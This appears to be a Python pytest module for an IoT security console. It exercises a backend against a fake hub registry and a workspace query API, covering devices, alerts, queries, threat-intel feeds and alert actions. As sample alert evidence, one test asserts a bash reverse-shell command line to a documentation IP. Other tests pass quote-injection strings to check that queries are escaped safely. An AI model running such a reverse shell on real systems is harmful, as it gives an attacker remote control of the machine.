"""``ServiceApiBackend`` against the real workspace query API and a registry in the hub's shapes."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.exceptions import HTTPException
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Mount, Route

from iotsec.console import (
    ActionRefused,
    BackendError,
    FeedSettings,
    NotConfigured,
    NotFound,
    QueryFailed,
    ServiceApiBackend,
)
from iotsec.workspace.api import build_query_app
from iotsec.workspace.query import Workspace
from iotsec.workspace.store import WorkspaceStore
from tests.console import fleet

TOKEN = "SharedAccessSignature sr=hub&sig=test&se=9999999999&skn=iothubowner"
KEY = "c2VjcmV0LWRldmljZS1rZXk="


def _error(status: int, code: str, text: str) -> JSONResponse:
    return JSONResponse({"Message": f"ErrorCode:{code};{text}", "ExceptionMessage": "t"}, status)


def _device(device_id: str) -> dict[str, Any]:
    return {
        "deviceId": device_id,
        "status": "enabled",
        "connectionState": "Connected" if device_id == fleet.DEVICE else "Disconnected",
        "lastActivityTime": "0001-01-01T00:00:00Z",
        "authentication": {"type": "sas", "symmetricKey": {"primaryKey": KEY, "secondaryKey": KEY}},
    }


def _registry(calls: list[str], *, security: bool) -> list[Any]:
    known = {fleet.DEVICE, fleet.QUIET_DEVICE, "fresh"}
    groups: dict[str, Any] = {"cameras": {"timeWindowRules": []}}

    async def check(request: Request) -> None:
        calls.append(f"{request.method} {request.url.path}?{request.url.query}")
        if request.headers.get("authorization") != TOKEN:
            raise HTTPException(401, "no")

    async def devices(request: Request) -> Response:
        await check(request)
        return JSONResponse([_device(d) for d in sorted(known)])

    async def device(request: Request) -> Response:
        await check(request)
        device_id = request.path_params["device_id"]
        if device_id not in known:
            return _error(404, "DeviceNotFound", f"device {device_id} not found")
        return JSONResponse(_device(device_id))

    async def twin(request: Request) -> Response:
        await check(request)
        device_id = request.path_params["device_id"]
        if device_id not in known:
            return _error(404, "DeviceNotFound", f"device {device_id} not found")
        tags = {"securitygroup": "cameras"} if device_id == fleet.DEVICE else {}
        return JSONResponse({"deviceId": device_id, "tags": tags, "properties": {}})

    async def custom(request: Request) -> Response:
        await check(request)
        if request.method == "PUT":
            body = await request.json()
            if "bogus" in body["properties"]:
                return _error(400, "ArgumentInvalid", "bogus is not a rule family")
            groups[request.path_params["group"]] = body["properties"]
            return JSONResponse(body)
        return JSONResponse({"value": [{"name": k, "properties": v} for k, v in groups.items()]})

    feeds_known: dict[str, Any] = {
        "stix": {"name": "stix", "kind": "stix", "indicatorCount": 4, "lastError": "timeout"}
    }

    async def feeds(request: Request) -> Response:
        await check(request)
        return JSONResponse({"value": list(feeds_known.values())})

    async def feed(request: Request) -> Response:
        await check(request)
        name = request.path_params["name"]
        if request.method == "DELETE":
            if feeds_known.pop(name, None) is None:
                return JSONResponse({"ErrorCode": "FeedNotFound", "Message": "no feed"}, 404)
            return JSONResponse({"name": name, "deleted": True})
        body = await request.json()
        calls.append(f"feed {name}: {sorted(body.items())}")
        if "path" not in body:
            refused = {"ErrorCode": "ArgumentInvalid", "Message": "feed x: needs a path"}
            return JSONResponse({**refused, "field": "path"}, 400)
        config = {"name": name, **body, "refresh": 900.0}
        feeds_known[name] = {"name": name, "kind": body["kind"], "config": config, "ok": True}
        return JSONResponse(feeds_known[name], 201)

    async def alert_action(request: Request) -> Response:
        await check(request)
        body = await request.json()
        calls.append(f"body {body['by']}: {body['reason']}")
        if request.path_params["alert_id"] == "gone":
            return _error(404, "AlertNotFound", "no such alert")
        if request.path_params["alert_id"] == fleet.QUIET_ALERT_ID:
            return _error(409, "Conflict", "the alert is Dismissed")
        return Response(status_code=204)

    routes: list[Any] = [
        Route("/devices", devices),
        Route("/devices/{device_id}", device),
        Route("/twins/{device_id}", twin),
    ]
    if security:
        routes += [
            Route("/security/deviceSecurityGroups", custom),
            Route("/security/deviceSecurityGroups/{group}", custom, methods=["PUT"]),
            Route("/security/intelFeeds", feeds),
            Route("/security/intelFeeds/{name}", feed, methods=["PUT", "DELETE"]),
            Route("/security/alerts/{alert_id}/{action}", alert_action, methods=["POST"]),
        ]
    return routes


async def _hub_errors(request: Request, exc: Exception) -> Response:
    assert isinstance(exc, HTTPException)
    code = {404: "NotFound", 405: "MethodNotAllowed"}.get(exc.status_code, "Unauthorized")
    return _error(exc.status_code, code, f"{request.method} {request.url.path}: {exc.detail}")


async def _allow(request: Request) -> None:
    if request.headers.get("authorization") != TOKEN:
        raise HTTPException(401, "no")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[WorkspaceStore]:
    with WorkspaceStore(tmp_path / "workspace.duckdb") as opened:
        fleet.fill(opened, datetime.now(UTC))
        yield opened


def _server(store: WorkspaceStore, calls: list[str], *, security: bool) -> Starlette:
    query_app = build_query_app(Workspace(store), _allow)
    return Starlette(
        routes=[*_registry(calls, security=security), Mount("/workspace", app=query_app)],
        exception_handlers={HTTPException: _hub_errors},
    )


@pytest.fixture
def calls() -> list[str]:
    return []


@pytest.fixture
async def backend(store: WorkspaceStore, calls: list[str]) -> AsyncIterator[ServiceApiBackend]:
    transport = httpx.ASGITransport(app=_server(store, calls, security=True))
    opened = ServiceApiBackend(
        base_url="https://hub.test", token=lambda: TOKEN, transport=transport
    )
    yield opened
    await opened.aclose()


@pytest.fixture
async def bare(store: WorkspaceStore, calls: list[str]) -> AsyncIterator[ServiceApiBackend]:
    """A server with the registry and the workspace only (no analytics routes yet)."""
    transport = httpx.ASGITransport(app=_server(store, calls, security=False))
    opened = ServiceApiBackend(
        base_url="https://hub.test", token=lambda: TOKEN, transport=transport
    )
    yield opened
    await opened.aclose()


async def test_devices_merge_the_registry_with_workspace_risk(
    backend: ServiceApiBackend, calls: list[str]
) -> None:
    devices = await backend.devices()
    assert [d.device_id for d in devices] == [fleet.DEVICE, fleet.QUIET_DEVICE, "fresh"]
    cam = devices[0]
    assert (cam.group, cam.risk_score, cam.risk_level) == ("cameras", 82.0, "High")
    assert (cam.open_alerts, cam.high_alerts) == (1, 1)
    assert cam.connection_state == "Connected"
    assert cam.last_seen is not None
    fresh = devices[2]
    assert (fresh.risk_score, fresh.group, fresh.last_seen) == (None, None, None)
    assert KEY not in repr(devices)
    assert all("api-version=" in call for call in calls if not call.startswith("body"))


async def test_a_device_has_its_twin_group_and_risk_explanation(
    backend: ServiceApiBackend,
) -> None:
    detail = await backend.device(fleet.DEVICE)
    assert detail.summary.group == "cameras"
    assert detail.twin["tags"] == {"securitygroup": "cameras"}
    assert detail.risk_explanation == ("reverse shell (High alert)", "telnet open")
    assert detail.first_seen is not None
    assert KEY not in repr(detail)
    with pytest.raises(NotFound) as missing:
        await backend.device("nope")
    assert (missing.value.what, missing.value.key) == ("device", "nope")


async def test_alerts_carry_what_fired_and_their_evidence(backend: ServiceApiBackend) -> None:
    alerts = await backend.alerts()
    newest_first = [fleet.ALERT_ID, fleet.OPEN_ALERT_ID, fleet.QUIET_ALERT_ID]
    assert [a.alert_id for a in alerts] == newest_first
    assert [a.alert_id for a in await backend.alerts(open_only=True)] == [
        fleet.ALERT_ID,
        fleet.OPEN_ALERT_ID,
    ]
    assert [a.alert_id for a in await backend.alerts(device_id=fleet.QUIET_DEVICE)] == [
        fleet.OPEN_ALERT_ID,
        fleet.QUIET_ALERT_ID,
    ]
    alert = await backend.alert(fleet.ALERT_ID)
    assert alert.rule == "IoT_ReverseShell"
    assert alert.remediation == ("Isolate the device.", "Rotate its credentials.")
    assert (alert.tactics, alert.techniques) == (("Execution",), ("T1059",))
    assert alert.evidence == (fleet.SHELL_EVIDENCE,)
    assert alert.extended_properties["Remote Address"] == "203.0.113.9"
    [event] = await backend.events_by_id([*alert.evidence, "unknown:0"])
    assert event.name == "ProcessCreate"
    assert event.details["CommandLine"] == "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    with pytest.raises(NotFound):
        await backend.alert('x" or 1==1')


async def test_the_timeline_recommendations_and_raw_events(backend: ServiceApiBackend) -> None:
    timeline = await backend.alert_timeline(days=14)
    assert sorted((d.severity, d.count) for d in timeline) == [
        ("High", 1),
        ("Low", 1),
        ("Medium", 1),
    ]
    [recommendation] = await backend.recommendations(device_id=fleet.DEVICE)
    assert recommendation.display_name == "Open ports on device"
    assert recommendation.additional_data == {"Ports": ["23"]}
    events = await backend.raw_events(fleet.DEVICE)
    assert [e.name for e in events] == ["ProcessCreate", "ListeningPorts"]
    assert await backend.raw_events('cam-1" or DeviceId != "') == []


async def test_queries_answer_typed_tables_and_explain_errors(backend: ServiceApiBackend) -> None:
    table = await backend.query(
        "SecurityAlert | summarize count() by bin(TimeGenerated, 1d) | render timechart",
        max_rows=10,
    )
    assert [(c.name, c.type) for c in table.columns] == [
        ("TimeGenerated", "datetime"),
        ("count_", "long"),
    ]
    assert table.render == "timechart"
    truncated = await backend.query("SecurityIoTRawEvent", max_rows=1)
    assert truncated.truncated
    assert len(truncated.rows) == 1
    with pytest.raises(QueryFailed) as failed:
        await backend.query("SecurityAlert | where Nope == 1", max_rows=10)
    assert "Nope" in str(failed.value)
    assert failed.value.line == 1
    assert failed.value.column is not None


async def test_settings_and_alert_actions_over_their_routes(
    backend: ServiceApiBackend, calls: list[str]
) -> None:
    [group] = await backend.custom_alerts()
    assert group.group == "cameras"
    await backend.set_custom_alerts("gateways", {"denylistRules": []})
    assert {g.group for g in await backend.custom_alerts()} == {"cameras", "gateways"}
    with pytest.raises(ActionRefused, match="bogus is not a rule family"):
        await backend.set_custom_alerts("x", {"bogus": []})
    [feed] = await backend.intel_feeds()
    assert (feed.name, feed.indicators, feed.last_error) == ("stix", 4, "timeout")
    await backend.change_alert_status(fleet.ALERT_ID, "resolve", reason="fixed", by="anna")
    assert "body anna: fixed" in calls
    assert f"POST /security/alerts/{fleet.ALERT_ID}/resolve?api-version=2021-04-12" in calls
    with pytest.raises(ActionRefused, match="Dismissed"):
        await backend.change_alert_status(fleet.QUIET_ALERT_ID, "dismiss", reason="", by="anna")
    with pytest.raises(NotFound):
        await backend.change_alert_status("gone", "dismiss", reason="", by="anna")


async def test_feeds_are_put_and_deleted_over_their_route(
    backend: ServiceApiBackend, calls: list[str]
) -> None:
    feed = FeedSettings("lab feed", "list-file", path="lab.txt", url="ignored", refresh="900")
    await backend.put_intel_feed(feed)
    assert (
        "feed lab feed: [('kind', 'list-file'), ('list_kind', 'auto'), ('path', 'lab.txt'),"
        " ('refresh', 900)]" in calls
    )
    assert "PUT /security/intelFeeds/lab feed?api-version=2021-04-12" in calls
    listed = {f.name: f for f in await backend.intel_feeds()}
    assert listed["lab feed"].settings == FeedSettings(
        "lab feed", "list-file", path="lab.txt", refresh="900"
    )
    with pytest.raises(ActionRefused) as refused:
        await backend.put_intel_feed(FeedSettings("x", "list-file"), password="pw")
    assert (refused.value.field, refused.value.status) == ("path", 400)
    assert str(refused.value) == "feed x: needs a path"
    await backend.delete_intel_feed("lab feed")
    with pytest.raises(NotFound) as missing:
        await backend.delete_intel_feed("lab feed")
    assert (missing.value.what, missing.value.key) == ("feed", "lab feed")


async def test_routes_the_server_lacks_are_not_configured(bare: ServiceApiBackend) -> None:
    with pytest.raises(NotConfigured, match="custom alerts"):
        await bare.custom_alerts()
    with pytest.raises(NotConfigured, match="custom alerts"):
        await bare.set_custom_alerts("g", {})
    with pytest.raises(NotConfigured, match="threat intelligence"):
        await bare.intel_feeds()
    with pytest.raises(NotConfigured, match="dismissing and resolving"):
        await bare.change_alert_status(fleet.ALERT_ID, "dismiss", reason="", by="x")
    with pytest.raises(NotConfigured, match="managing threat-intelligence feeds"):
        await bare.put_intel_feed(FeedSettings("f", "list-file", path="p"))
    with pytest.raises(NotConfigured, match="managing threat-intelligence feeds"):
        await bare.delete_intel_feed("f")


async def test_a_refused_credential_and_an_unreachable_server_are_backend_errors(
    store: WorkspaceStore, calls: list[str]
) -> None:
    transport = httpx.ASGITransport(app=_server(store, calls, security=True))
    wrong = ServiceApiBackend(
        base_url="https://hub.test", token=lambda: "nope", transport=transport
    )
    with pytest.raises(BackendError, match="refused the console's service credential") as refused:
        await wrong.devices()
    assert "nope" not in str(refused.value)
    await wrong.aclose()
    down = ServiceApiBackend(base_url="https://127.0.0.1:9", token=lambda: TOKEN, timeout=2)
    with pytest.raises(BackendError, match="not reachable"):
        await down.devices()
    await down.aclose()


async def test_without_a_workspace_the_registry_still_lists_devices(
    store: WorkspaceStore, calls: list[str]
) -> None:
    app = Starlette(
        routes=_registry(calls, security=False), exception_handlers={HTTPException: _hub_errors}
    )
    backend = ServiceApiBackend(
        base_url="https://hub.test", token=lambda: TOKEN, transport=httpx.ASGITransport(app=app)
    )
    devices = await backend.devices()
    assert len(devices) == 3
    assert await backend.alerts() == []
    with pytest.raises(NotConfigured, match="the workspace"):
        await backend.query("Device", max_rows=1)
    await backend.aclose()
